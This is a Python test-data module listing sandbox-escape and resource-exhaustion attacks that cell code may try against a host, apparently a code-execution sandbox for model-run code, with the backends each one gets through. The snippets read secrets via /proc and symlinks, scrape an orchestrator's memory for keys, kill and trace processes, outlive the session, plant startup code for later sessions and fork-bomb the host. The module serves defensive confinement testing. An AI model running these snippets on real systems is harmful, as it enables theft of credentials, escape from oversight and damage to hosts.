"""Attacks, as data: what code in a cell may try against the host, and on which backends it gets through.

The code of each runs as a cell, after `PRELUDE`, and finds `facts` about what was planted on the host (see
`runner`). It has got through if a planted secret shows in its output, if it says so itself by `hit`, or if
the host finds a change: a connection, a file, a dead process.
"""

from __future__ import annotations

from dataclasses import dataclass

BARE, LOCAL, SANDBOX = "bare", "local", "sandbox"
"""A local kernel without confinement, the repl `local`, the repl `sandbox`."""


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack.

    ``through`` are the backends on which it is known to get through, as root; `BARE` shows that the attempt
    works at all. ``then`` runs in another session, after that of ``code`` was closed. ``only`` is for what
    no machine should go through without a sandbox. ``depends`` marks what a machine may not have. ``seconds``
    is the limit of its cell.
    """

    name: str
    goal: str
    code: str
    through: tuple[str, ...] = ()
    then: str = ""
    only: tuple[str, ...] = (BARE, LOCAL, SANDBOX)
    depends: bool = False
    seconds: float = 10.0


PRELUDE = """
import importlib
for name in "ctypes glob mmap os resource signal socket struct subprocess sys threading time".split():
    try:
        globals()[name] = importlib.import_module(name)
    except ImportError:  # WebAssembly's Python lacks some, and with them what they lead to
        pass
libc = ctypes.CDLL(None, use_errno=True)

def hit(text=""):
    print(facts["marker"], text)

def call(number, *arguments):
    ctypes.set_errno(0)
    words = [each if isinstance(each, bytes) else ctypes.c_long(each) for each in arguments]
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(ctypes.c_long(number), *words), ctypes.get_errno()

def show(path):
    with open(path, "rb") as file:
        print(file.read(1 << 20).decode("utf-8", "replace"))

def each_shown(paths):
    for path in paths:
        try:
            with open(path, "rb") as file:
                data = file.read(1 << 20)
        except OSError:
            continue
        at = data.find(facts["key_starts"].encode())
        if at >= 0:
            print(path, data[at : at + 40])
"""

FILES = [
    Attack("read a file", "files", "show(facts['secret'])", (BARE, LOCAL)),
    Attack(
        "read it by way of another process",
        "files",
        "each_shown(f'/proc/{each}/root{facts[\"secret\"]}' for each in (1, facts['orchestrator'], 'self'))",
        (BARE, LOCAL),
    ),
    Attack(
        "read it by way of dots", "files", "show(os.getcwd() + '/..' * 9 + facts['secret'])", (BARE, LOCAL)
    ),
    Attack(
        "read it by way of a link",
        "files",
        "os.symlink(facts['secret'], 'l'); show('l')",
        (BARE, LOCAL),
    ),
    Attack("read accounts", "files", "show('/etc/passwd')", (BARE, LOCAL)),
    Attack(
        "read connection files",
        "files",
        "each_shown(glob.glob(facts['folder'] + '/**/kernel-*.json', recursive=True))",
        (BARE, LOCAL),
    ),
    Attack("write to a file", "files", "open(facts['target'], 'w').write('changed')", (BARE, LOCAL)),
    Attack("delete a file", "files", "os.unlink(facts['target'])", (BARE, LOCAL)),
    Attack(
        "write to Python's own folder",
        "files",
        "open(facts['prefix'] + '/lib/' + facts['note'], 'w').write('x'); hit()",
        (BARE, LOCAL),
    ),
    Attack(
        "write to programs",
        "files",
        "open('/usr/lib/' + facts['note'], 'w').write('x'); hit()",
        (BARE, LOCAL),
    ),
    Attack(
        "write to the kernel's settings",
        "files",
        "open('/proc/sys/kernel/core_pattern', 'r+b').close(); hit()",
        (BARE, LOCAL),
    ),
    Attack(
        "open raw memory and disks",
        "files",
        "for path in ['/dev/mem', '/dev/kmsg', '/proc/kcore', *glob.glob('/dev/[vs]d?'), *glob.glob('/dev/nvme*')]:\n"
        "    try:\n        open(path, 'rb').close(); hit(path)\n    except OSError:\n        pass",
        (BARE, LOCAL),
        depends=True,
    ),
]

KEYS = [
    Attack(
        "own environment",
        "environment",
        "print(os.environ); each_shown(['/proc/self/environ', '/proc/1/environ'])",
    ),
    Attack(
        "environments of all processes",
        "environment",
        "each_shown(glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/task/*/environ'))",
        (BARE,),
    ),
    Attack(
        "memory of the orchestrator",
        "environment",
        "start = facts['key_starts'].encode()\n"
        "with open(f\"/proc/{facts['orchestrator']}/maps\") as maps, "
        "open(f\"/proc/{facts['orchestrator']}/mem\", 'rb', 0) as memory:\n"
        "    for line in maps:\n"
        "        if ' rw' in line:\n"
        "            first, last = (int(each, 16) for each in line.split()[0].split('-'))\n"
        "            memory.seek(first)\n"
        "            data = memory.read(min(last - first, 1 << 26))\n"
        "            at = data.find(start)\n"
        "            while at >= 0:\n"
        "                print(data[at : at + 40].decode('ascii', 'replace')); at = data.find(start, at + 1)",
        (BARE,),
    ),
]

NETWORK = [
    Attack(
        "connect by TCP", "network", "socket.create_connection(facts['tcp'], 3).send(b'x')", (BARE, LOCAL)
    ),
    Attack(
        "send a datagram, as DNS does",
        "network",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret.example', tuple(facts['udp']))",
        (BARE, LOCAL),
    ),
    Attack(
        "connect to a socket's path",
        "network",
        "socket.socket(socket.AF_UNIX).connect(facts['unix'])",
        (BARE, LOCAL),
    ),
    Attack(
        "connect to an abstract socket",
        "network",
        "socket.socket(socket.AF_UNIX).connect('\\0' + facts['abstract'])",
        (BARE,),
    ),
    Attack(
        "a socket to the hypervisor", "network", "socket.socket(40, 1); hit()", (BARE, LOCAL), depends=True
    ),
    Attack("a raw socket", "network", "socket.socket(17, 3, socket.htons(3)); hit()", (BARE,)),
    Attack(
        "interfaces with a way out",
        "network",
        "lines = open('/proc/net/route').readlines()[1:]\nif lines: hit(lines)",
        (BARE, LOCAL),
        depends=True,
    ),
]

PROCESSES = [
    Attack(
        "see processes",
        "processes",
        "if os.path.exists(f\"/proc/{facts['victim']}\"): hit()",
        (BARE, LOCAL),
    ),
    Attack("kill a process", "processes", "os.kill(facts['victim'], signal.SIGKILL)", (BARE,)),
    Attack(
        "kill a process by descriptor",
        "processes",
        "signal.pidfd_send_signal(os.pidfd_open(facts['victim']), signal.SIGKILL)",
        (BARE,),
    ),
    Attack(
        "kill all there is",
        "processes",
        "assert os.path.exists('/rlm') and os.getpid() < 100\nos.kill(-1, signal.SIGKILL)",
        only=(SANDBOX,),
    ),
    Attack(
        "trace a process",
        "processes",
        "if libc.ptrace(16, facts['victim'], 0, 0) == 0:\n    os.waitpid(facts['victim'], 0); libc.ptrace(17, facts['victim'], 0, 0); hit()",
        (BARE,),
    ),
    Attack(
        "gain root by a program",
        "processes",
        "print(subprocess.run(['su', 'root', '-s', '/bin/sh', '-c', 'id -u; echo ' + facts['marker']], "
        "stdin=subprocess.DEVNULL, capture_output=True, text=True).stdout)",
        (BARE,),
    ),
    Attack(
        "outlive the session",
        "processes",
        "subprocess.run(['sh', '-c', 'setsid sh -c \"sleep 60; :\" ' + facts['note'] + ' >/dev/null 2>&1 &'])",
        then="for path in glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try:\n        text = open(path, 'rb').read()\n    except OSError:\n        continue\n"
        "    if facts['note'].encode() in text: hit(path)",
    ),
]

_PROBE = "result, error = call({number}, {arguments})\nif result >= 0 or error not in (1, 13, 38): hit((result, error))"


def _system_call(
    name: str, number: int, arguments: str, through: tuple[str, ...] = (), **more: bool
) -> Attack:
    code = _PROBE.format(number=number, arguments=arguments)
    return Attack(f"system call {name}", "kernel", code, through, **more)


# Numbers of x86_64. Arguments are such that nothing happens where the call is let through.
KERNEL = [
    _system_call("mount", 165, "b'none', b'/tmp', b'nosuchfs', 0, 0", (BARE,)),
    _system_call("umount2", 166, "b'/nowhere', 0", (BARE, LOCAL)),
    _system_call("pivot_root", 155, "b'/nowhere', b'/nowhere'", (BARE,)),
    _system_call("fsopen", 430, "b'nosuchfs', 0", (BARE,)),
    _system_call("open_tree", 428, "-100, b'/nowhere', 1", (BARE,)),
    _system_call("unshare", 272, "-1", (BARE, LOCAL)),
    _system_call("setns", 308, "-1, 0", (BARE, LOCAL)),
    _system_call("clone3", 435, "0, 0", (BARE, LOCAL)),
    _system_call("ptrace", 101, "16, 999999999, 0, 0", (BARE, LOCAL)),
    _system_call("process_vm_readv", 310, "999999999, 0, 0, 0, 0, 0", (BARE, LOCAL)),
    _system_call("pidfd_getfd", 438, "-1, 0, 0", (BARE, LOCAL)),
    _system_call("kcmp", 312, "999999999, 999999999, 0, 0, 0", (BARE, LOCAL)),
    _system_call("keyctl", 250, "0, -3, 1", (BARE, LOCAL)),
    _system_call("add_key", 248, "b'user', b'rlm', b'x', 1, -2", (BARE, LOCAL)),
    _system_call("request_key", 249, "b'user', b'rlm-none', 0, 0", (BARE, LOCAL)),
    _system_call("bpf", 321, "99, 0, 0", (BARE, LOCAL), depends=True),
    _system_call("perf_event_open", 298, "0, 0, -1, -1, 0", (BARE, LOCAL)),
    _system_call("userfaultfd", 323, "0xFFFF", (BARE, LOCAL)),
    _system_call("io_uring_setup", 425, "0, 0", (BARE, LOCAL), depends=True),
    _system_call("init_module", 175, "0, 0, b''", (BARE,), depends=True),
    _system_call("kexec_load", 246, "0, -1, 0, 0xFFFF", (BARE,), depends=True),
    _system_call("name_to_handle_at", 303, "-100, b'/nowhere', 0, 0, 0", (BARE, LOCAL)),
    _system_call("open_by_handle_at", 304, "-1, 0, 0", (BARE, LOCAL), depends=True),
    _system_call("shmget", 29, "0, 0, 0", (BARE, LOCAL)),
    Attack(
        "open files by handle",
        "kernel",
        "import fcntl\nhandle = ctypes.create_string_buffer(struct.pack('II', 8, 1) + struct.pack('II', 2, 0))\n"
        "at = os.open('/usr', os.O_RDONLY)\n"
        "got = libc.open_by_handle_at(at, handle, os.O_RDONLY)\nif got >= 0: hit(os.listdir(got)[:3])",
        (BARE,),
        depends=True,
    ),
    Attack(
        "a namespace of users of its own",
        "kernel",
        "pid = os.fork()\n"
        "if pid == 0:\n    os._exit(libc.unshare(0x10000000) != 0)\n"
        "if os.waitpid(pid, 0)[1] == 0: hit()",
        (BARE, LOCAL),
        depends=True,
    ),
    Attack(
        "type into the terminal",
        "kernel",
        "import fcntl, errno\n"
        "try:\n    fcntl.ioctl(0, 0x5412, b'x')\nexcept OSError as error:\n    if error.errno != errno.EPERM: hit(error)",
        (BARE, LOCAL),
    ),
    Attack(
        "numbers of another architecture",
        "kernel",
        "if call(0x40000000 + 39)[0] >= 0: hit()",
    ),
]

SESSIONS = [
    Attack(
        "see another session's folder",
        "sessions",
        "os.listdir(facts['other']); hit()",
        (BARE, LOCAL),
    ),
    Attack(
        "leave a note for the next session",
        "sessions",
        "for path in ('/tmp', '/dev/shm', '/var/tmp', os.path.expanduser('~')):\n"
        "    try:\n        open(path + '/' + facts['note'], 'w').write('x')\n    except OSError:\n        pass",
        (BARE, LOCAL),
        then="for path in ('/tmp', '/dev/shm', '/var/tmp', os.path.expanduser('~')):\n"
        "    if os.path.exists(path + '/' + facts['note']): hit(path)",
    ),
    Attack(
        "leave start-up code for the next session",
        "sessions",
        "folder = os.path.expanduser('~/.ipython/profile_default/startup')\n"
        "os.makedirs(folder, exist_ok=True)\nopen(folder + '/left.py', 'w').write('left = 1')",
        then="if 'left' in globals() or os.path.exists(os.path.expanduser('~/.ipython/profile_default/startup/left.py')): hit()",
        only=(SANDBOX,),
    ),
    Attack(
        "leave memory for the next session",
        "sessions",
        "libc.shmget(facts['number'], 4096, 0x3B6)",
        (BARE, LOCAL),
        then="if libc.shmget(facts['number'], 4096, 0) >= 0: hit()",
    ),
]

# With the limits of `runner`: 512 MiB of memory, 64 processes, 16 MiB of each folder and file, 128 open files,
# 2 seconds. Each prints how far it came; none goes so far that a machine would suffer.
EXHAUSTION = [
    Attack(
        "fork many processes",
        "exhaustion",
        "children = []\n"
        "try:\n"
        "    while len(children) < 100:\n"
        "        pid = os.fork()\n"
        "        if pid == 0:\n            time.sleep(60); os._exit(0)\n"
        "        children.append(pid)\n"
        "except OSError as error:\n    print(error)\n"
        "for pid in children: os.kill(pid, signal.SIGKILL)\n"
        "for pid in children: os.waitpid(pid, 0)\n"
        "if len(children) > 64: hit(len(children))",
        (LOCAL,),
        only=(LOCAL, SANDBOX),
    ),
    Attack(
        "a fork bomb",
        "exhaustion",
        "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        only=(SANDBOX,),
        seconds=0.3,
    ),
    Attack(
        "one large allocation",
        "exhaustion",
        "held = bytearray(600 << 20)\nhit(len(held))",
        (LOCAL,),
        only=(LOCAL, SANDBOX),
    ),
    Attack(
        "memory that is shared",
        "exhaustion",
        "held = mmap.mmap(-1, 700 << 20)\nfor at in range(0, 700 << 20, 4096): held[at] = 1\nhit(len(held))",
        (LOCAL,),
        only=(LOCAL, SANDBOX),
        depends=True,
    ),
    Attack(
        "memory of many processes",
        "exhaustion",
        "code = 'held = bytearray(200 << 20); print(1, flush=True); import time; time.sleep(60)'\n"
        "many = [subprocess.Popen([sys.executable, '-I', '-S', '-c', code], stdout=subprocess.PIPE) for _ in range(5)]\n"
        "came = [bool(each.stdout.readline()) for each in many]\n"
        "alive = sum(each.poll() is None for each in many)\n"
        "for each in many: each.kill(); each.wait(); each.stdout.close()\n"
        "if alive * 200 > 512: hit(alive)",
        (LOCAL,),
        only=(LOCAL, SANDBOX),
        depends=True,
    ),
    Attack(
        "fill the disk",
        "exhaustion",
        "total = 0\n"
        "for folder in {'/tmp', os.path.expanduser('~'), '/dev/shm', os.getcwd()}:\n"
        "    for number in range(4):\n"
        "        try:\n"
        "            with open(f'{folder}/rlm-fill-{number}', 'wb', 0) as file:\n"
        "                for _ in range(8): total += file.write(bytes(1 << 20))\n"
        "        except OSError:\n            pass\n"
        "for folder in ('/tmp', os.path.expanduser('~'), '/dev/shm', os.getcwd()):\n"
        "    for path in glob.glob(folder + '/rlm-fill-*'): os.unlink(path)\n"
        "if total > 3 * 17 << 20: hit(total)",
        (LOCAL,),
        only=(LOCAL, SANDBOX),
    ),
    Attack(
        "one large file",
        "exhaustion",
        "fd = os.memfd_create('x')\nos.ftruncate(fd, 100 << 20); hit()",
        (LOCAL,),
        only=(LOCAL, SANDBOX),
    ),
    Attack(
        "fill the host's log",
        "exhaustion",
        "for name in os.listdir('/proc/self/fd'):\n"
        "    try:\n"
        "        if os.readlink('/proc/self/fd/' + name).endswith('start.log'):\n"
        "            for _ in range(64): os.write(int(name), bytes(1 << 20))\n"
        "    except OSError:\n        pass",
        only=(LOCAL, SANDBOX),
    ),
    Attack(
        "open many files",
        "exhaustion",
        "held = []\n"
        "try:\n    resource.setrlimit(resource.RLIMIT_NOFILE, (500, 500))\nexcept (OSError, ValueError):\n    pass\n"
        "try:\n    for _ in range(300): held.append(os.open('/dev/null', os.O_RDONLY))\nexcept OSError:\n    pass\n"
        "for each in held: os.close(each)\n"
        "if len(held) > 128: hit(len(held))",
        (LOCAL,),
        only=(LOCAL, SANDBOX),
    ),
    Attack(
        "burn in the background",
        "exhaustion",
        "child = subprocess.Popen([sys.executable, '-I', '-S', '-c', 'import time\\nwhile time.process_time() < 3: pass'])\n"
        "if child.wait() == 0: hit()",
        (LOCAL,),
        only=(LOCAL, SANDBOX),
        seconds=20.0,
    ),
    Attack(
        "burn and not be stopped",
        "exhaustion",
        "signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
        only=(SANDBOX,),
        seconds=0.5,
    ),
]

ATTACKS = [*FILES, *KEYS, *NETWORK, *PROCESSES, *KERNEL, *SESSIONS, *EXHAUSTION]
